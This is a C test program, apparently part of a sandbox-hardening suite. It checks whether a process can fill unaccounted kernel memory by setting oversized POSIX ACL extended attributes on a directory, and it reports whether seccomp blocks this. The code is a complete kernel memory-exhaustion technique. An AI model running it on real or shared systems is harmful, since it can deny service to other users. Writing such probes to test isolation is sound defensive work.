/* SPDX-License-Identifier: MIT */
/* Fills kernel memory with the access control lists of a file, which no control group and no file
 * system counts: a list takes up to 64 KiB, and each file two. Stopped by: seccomp. */
#include "attack.h"

#include <sys/xattr.h>

#define ENTRIES 512

/* As linux/posix_acl_xattr.h has it. */
struct entry {
    uint16_t tag, rights;
    uint32_t id;
};

struct list {
    uint32_t version;
    struct entry entries[ENTRIES + 4];
};

static void fill(struct list *list)
{
    size_t n = 0;
    *list = (struct list){.version = 2};
    list->entries[n++] = (struct entry){0x01, 6, UINT32_MAX}; /* the owner */
    for (uint32_t i = 0; i < ENTRIES; i++)
        list->entries[n++] = (struct entry){0x02, 4, getuid()}; /* the only user of a namespace */
    list->entries[n++] = (struct entry){0x04, 4, UINT32_MAX};   /* the group */
    list->entries[n++] = (struct entry){0x10, 7, UINT32_MAX};   /* the mask */
    list->entries[n++] = (struct entry){0x20, 4, UINT32_MAX};   /* the others */
}

int main(void)
{
    static const char *const names[] = {"system.posix_acl_access", "system.posix_acl_default"};
    static struct list list;
    fill(&list);
    if (mkdir("acl", 0700) < 0)
        unclear("mkdir: %s", errno_name(errno));
    int fd = open("acl", O_RDONLY | O_DIRECTORY);
    for (size_t i = 0; i < COUNT_OF(names); i++) {
        if (setxattr("acl", names[i], &list, sizeof(list), 0) == 0 ||
            lsetxattr("acl", names[i], &list, sizeof(list), 0) == 0 ||
            fsetxattr(fd, names[i], &list, sizeof(list), 0) == 0)
            succeeded("%zu bytes in %s", sizeof(list), names[i]);
        barred("set %s", names[i]);
    }
    all_barred();
}
